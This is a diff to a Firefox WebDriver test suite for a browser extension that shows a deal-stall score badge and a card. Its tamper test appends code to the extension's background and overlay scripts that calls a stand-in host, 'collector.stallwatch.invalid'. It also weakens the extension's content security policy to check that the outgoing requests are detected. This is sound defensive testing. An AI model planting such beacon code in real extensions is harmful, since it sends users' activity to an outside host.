@@ -227,14 +227,16 @@ async function assertUntouched(documentUrl) {
 // ---- the overlay ---------------------------------------------------------------------------
 
 /**
- * Waits until the overlay iframe inside our container's closed shadow root shows a
- * score, and leaves the session switched into that frame. WebDriver reaches the closed root
+ * Waits for the badge the content script draws in our container's closed shadow root, clicks
+ * it as the rep would (the card's frame exists only once opened), waits until the frame shows
+ * a score, and leaves the session switched into that frame. WebDriver reaches the closed root
  * with Get Element Shadow Root (Firefox returns closed roots too) and enters the frame with
- * Switch To Frame by element reference.
+ * Switch To Frame by element reference. Returns the frame's URL and the badge's number.
  */
 async function enterOverlay() {
   const deadline = Date.now() + OVERLAY_TIMEOUT;
   let seen = 'no Stallwatch container';
+  let badgeNumber = null;
   for (;;) {
     await session.switchToTop();
     const hosts = await session.findElements('css selector', '[data-stallwatch-overlay]');
@@ -242,8 +244,13 @@ async function enterOverlay() {
     if (hosts.length === 1) {
       const shadow = await session.elementShadowRoot(hosts[0]);
       const frames = await session.findElementsFromShadowRoot(shadow, 'css selector', 'iframe');
-      if (frames.length !== 1) {
-        seen = `${frames.length} iframes in the shadow root`;
+      const [badge] = await session.findElementsFromShadowRoot(shadow, 'css selector', 'button[data-testid="stall-badge"]');
+      if (frames.length === 0 && badge && (await session.elementDisplayed(badge))) {
+        badgeNumber = (await session.elementText(badge)).split(/\s+/).pop();
+        await session.elementClick(badge);
+        seen = `badge ${JSON.stringify(badgeNumber)} clicked, no card frame yet`;
+      } else if (frames.length !== 1) {
+        seen = badge ? 'a badge not shown yet (not scored)' : `no badge, ${frames.length} iframes in the shadow root`;
       } else {
         const src = await session.elementAttribute(frames[0], 'src');
         assert.match(src, /^moz-extension:\/\/[0-9a-f-]+\/overlay\.html$/, 'the overlay is our extension page');
@@ -257,7 +264,7 @@ async function enterOverlay() {
              app: app ? app.textContent.trim().slice(0, 300) : null,
            };`,
         );
-        if (state.scored) return src;
+        if (state.scored) return { src, badgeNumber };
         seen = `iframe ${src} loaded (${state.ready}) but shows no score; #app text: ${JSON.stringify(state.app)}`;
       }
     }
@@ -342,9 +349,10 @@ else if (missing.length) {
     const { url } = EXPECTED[fixture];
     await open(url);
     const overlay = await attempt(async () => {
-      await enterOverlay();
+      const { badgeNumber } = await enterOverlay();
       const shown = await readOverlay();
       assertScore(shown.score);
+      assert.equal(badgeNumber, shown.score, 'the badge drawn in the page showed the card\'s number');
       for (const code of ['follow_up_trap', 'silence']) {
         assert.ok(shown.reasons.includes(code), `reason ${code} shown (got ${shown.reasons})`);
       }
@@ -414,9 +422,10 @@ else if (missing.length) {
         console.error('tampered content script error');
       }, 200);\n`,
     );
-    // The overlay is an extension page: the page's CSP does not bind it, and the tampered copy
-    // also loosens the extension's own CSP to scripts only (the full one would stop this request
-    // in the browser; the Chromium suite's attacks.test.mjs shows that it does), so this leaves.
+    // The background (which scores every badge) and the overlay (the card, once opened) are
+    // extension pages: the page's CSP does not bind them, and the tampered copy also loosens the
+    // extension's own CSP to scripts only (the full one would stop these requests in the
+    // browser; the Chromium suite's attacks.test.mjs shows that it does), so they leave.
     const manifestPath = path.join(dir, 'manifest.json');
     const manifest = JSON.parse(readFileSync(manifestPath, 'utf8'));
     manifest.content_security_policy = { extension_pages: "script-src 'self' 'wasm-unsafe-eval'" };
@@ -426,12 +435,23 @@ else if (missing.length) {
       `\nfetch('https://collector.stallwatch.invalid/collect?x=3').catch(() => {});
       setTimeout(() => { throw new Error('tampered overlay error'); }, 0);\n`,
     );
+    appendFileSync(
+      path.join(dir, 'background.js'),
+      // When this page's badge is asked for (the background started before the page).
+      `\nchrome.runtime.onMessage.addListener(() => {
+        fetch('https://collector.stallwatch.invalid/collect?x=4').catch(() => {});
+        setTimeout(() => { throw new Error('tampered background error'); }, 0);
+      });\n`,
+    );
     await session.cmd('POST', '/moz/addon/uninstall', { id: addonId });
     addonId = await session.installAddon(zipBase64(dir, work), { temporary: true });
 
     const { url } = EXPECTED['salesforce/opportunity.html'];
     startWindow();
     await open(url);
+    // The card opened, so the tampered overlay runs too.
+    await enterOverlay().catch(() => {});
+    await session.switchToTop();
     let found = [];
     const deadline = Date.now() + 10_000;
     const want = [
@@ -442,6 +462,7 @@ else if (missing.length) {
       /^request: via proxy: CONNECT collector\.stallwatch\.invalid:443$/,
       /^Firefox: console\.error: .*tampered content script error/,
       /^Firefox: JavaScript error: moz-extension:\/\/[^ ]*\/overlay\.js, .*tampered overlay error/,
+      /^Firefox: JavaScript error: moz-extension:\/\/[^ ]*\/background\.js, .*tampered background error/,
     ];
     while (Date.now() < deadline) {
       found = await breaches(url);
